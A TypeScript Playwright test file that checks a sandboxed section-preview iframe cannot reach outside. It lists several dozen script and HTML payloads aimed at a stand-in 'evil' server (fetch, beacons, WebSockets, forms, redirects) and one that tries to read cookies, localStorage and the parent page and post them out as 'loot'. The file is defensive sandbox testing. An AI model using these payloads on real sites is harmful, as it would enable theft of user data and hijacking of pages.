import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { readFromFrame } from "#app/ui/section-preview/messages.ts";
import { chromiumLaunchOptions } from "#tests/harness/chromium.ts";
import { bundledFrame, listeningServer, openPreview, render } from "./preview-host.ts";

const LONGEST_RENDERING_IN_MS = 10_000;

/** Time for what a section tries to arrive somewhere. */
const PATIENCE_IN_MS = 400;

let browser: Browser;
let sources: Awaited<ReturnType<typeof bundledFrame>>;
let host: Awaited<ReturnType<typeof listeningServer>>;
let evil: Awaited<ReturnType<typeof listeningServer>>;
let page: Page;
beforeAll(async () => {
  sources = await bundledFrame();
  host = await listeningServer((_request, response) => {
    response.setHeader("content-security-policy", "frame-src 'none'");
    response.setHeader("content-type", "text/html");
    response.setHeader("set-cookie", "session=secret");
    response.end("<!doctype html><title>The app</title><body></body>");
  });
  evil = await listeningServer((_request, response) => {
    response.setHeader("access-control-allow-origin", "*");
    response.end("evil");
  });
  browser = await chromium.launch(await chromiumLaunchOptions());
});
afterAll(async () => {
  await browser.close();
  host.close();
  evil.close();
});
beforeEach(async () => {
  page = await browser.newPage();
  await page.goto(host.origin);
  await openPreview(page, sources, ["https://cdn.example"]);
  evil.asked.length = 0;
});
afterEach(() => page.close());

const EVIL = "EVIL";
const attempts: [string, string][] = [
  ["its own address", `<script>location = "${EVIL}/location"</script>`],
  [
    "its own address later",
    `<script>setTimeout(() => location.replace("${EVIL}/later"), 20)</script>`,
  ],
  ["the page's address", `<script>top.location = "${EVIL}/top"</script>`],
  ["the page's address by its parent", `<script>parent.location.href = "${EVIL}/parent"</script>`],
  ["a new window", `<script>window.open("${EVIL}/open")</script>`],
  ["fetch", `<script>fetch("${EVIL}/fetch")</script>`],
  [
    "fetch from a worker",
    `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/worker")'])))</script>`,
  ],
  [
    "XMLHttpRequest",
    `<script>{ const x = new XMLHttpRequest(); x.open("GET", "${EVIL}/xhr"); x.send(); }</script>`,
  ],
  ["a beacon", `<script>navigator.sendBeacon("${EVIL}/beacon", "x")</script>`],
  ["an event source", `<script>new EventSource("${EVIL}/events")</script>`],
  ["a web socket", `<script>new WebSocket("${EVIL}/socket".replace("http", "ws"))</script>`],
  ["a module", `<script>import("${EVIL}/module.js")</script>`],
  ["a script by address", `<script src="${EVIL}/script.js"></script>`],
  ["a picture", `<img src="${EVIL}/picture">`],
  ["a picture by script", `<script>new Image().src = "${EVIL}/pixel"</script>`],
  ["a style sheet", `<link rel="stylesheet" href="${EVIL}/style.css">`],
  ["a background", `<p style="background: url(${EVIL}/background)">x</p>`],
  [
    "a font",
    `<style>@font-face { font-family: x; src: url(${EVIL}/font) } p { font-family: x }</style><p>x</p>`,
  ],
  ["a video", `<video src="${EVIL}/video" autoplay muted></video>`],
  ["a frame", `<iframe src="${EVIL}/frame"></iframe>`],
  ["an object", `<object data="${EVIL}/object"></object>`],
  [
    "a refresh",
    `<script>document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">')</script>`,
  ],
  [
    "a base address",
    `<script>document.head.insertAdjacentHTML("afterbegin", '<base href="${EVIL}/">'); fetch("base")</script>`,
  ],
  [
    "a form",
    `<form action="${EVIL}/form"><button>x</button></form><script>document.forms[0].submit()</script>`,
  ],
  [
    "a form in the page",
    `<form action="${EVIL}/form-top" target="_top"></form><script>document.forms[0].submit()</script>`,
  ],
  [
    "a link in the page",
    `<a id="go" target="_top" href="${EVIL}/link">x</a><script>document.getElementById("go").click()</script>`,
  ],
  [
    "a prefetch",
    `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="preload" as="fetch" href="${EVIL}/preload">`,
  ],
];

test.each(attempts)("a section reaches nobody by %s", async (_name, markup) => {
  // A frame that tries to leave may be gone before it can say that it has rendered.
  const rendered = render(page, markup.replaceAll(EVIL, evil.origin)).catch(() => undefined);
  await Promise.race([rendered, page.waitForTimeout(LONGEST_RENDERING_IN_MS)]);
  await page.waitForTimeout(PATIENCE_IN_MS);
  expect(evil.asked).toEqual([]);
  expect(page.url()).toBe(`${host.origin}/`);
  expect(page.context().pages()).toHaveLength(1);
});

test("what a section's markup does in a worker stays there too", async () => {
  const code = "{% comment %}{% endcomment %}<p>{{ 'x' | append: 'y' }}</p>";
  expect(await render(page, code)).toMatchObject({ type: "rendered", isShown: true });
  expect(evil.asked).toEqual([]);
});

test("a section sees neither the page nor what the page has stored", async () => {
  await page.evaluate(() => {
    localStorage.setItem("secret", "1");
    Object.assign(window, { stolen: [] });
    addEventListener(
      "message",
      ({ data }) => data.loot && Reflect.get(window, "stolen").push(data.loot),
    );
  });
  const tries = [
    "parent.document.title",
    "localStorage.secret",
    "document.cookie",
    "top.secret",
    "indexedDB.open('x')",
    "caches.keys()",
  ];
  await render(
    page,
    `<script>for (const attempt of ${JSON.stringify(tries)}) { try { const got = eval("(" + JSON.stringify(attempt) + ")"); } catch {} }</script>
     <script>${tries.map((attempt) => `try { parent.postMessage({ loot: String(${attempt}) }, "*") } catch {}`).join("\n")}</script>`,
  );
  await page.waitForTimeout(PATIENCE_IN_MS);
  const loot = await page.evaluate((): string[] => Reflect.get(window, "stolen"));
  expect(loot.filter((text) => text !== "" && !text.startsWith("[object"))).toEqual([]);
});

test("strange messages from a frame are not believed", () => {
  const strange = [
    null,
    1,
    "ready",
    {},
    { type: "start" },
    { type: "render" },
    [],
    { type: { toString: "x" } },
  ];
  for (const message of strange) expect(readFromFrame(message)).toBeNull();
  expect(readFromFrame({ type: "rendered", errors: "x", durationMs: "x" })).toEqual({
    type: "rendered",
    errors: [],
    durationMs: 0,
    isShown: false,
  });
  const many = Array.from({ length: 900 }, () => ({ message: "x".repeat(9_000), line: 1 }));
  const read = readFromFrame({ type: "rendered", errors: many, durationMs: 1 });
  expect(JSON.stringify(read).length).toBeLessThan(60_000);
});
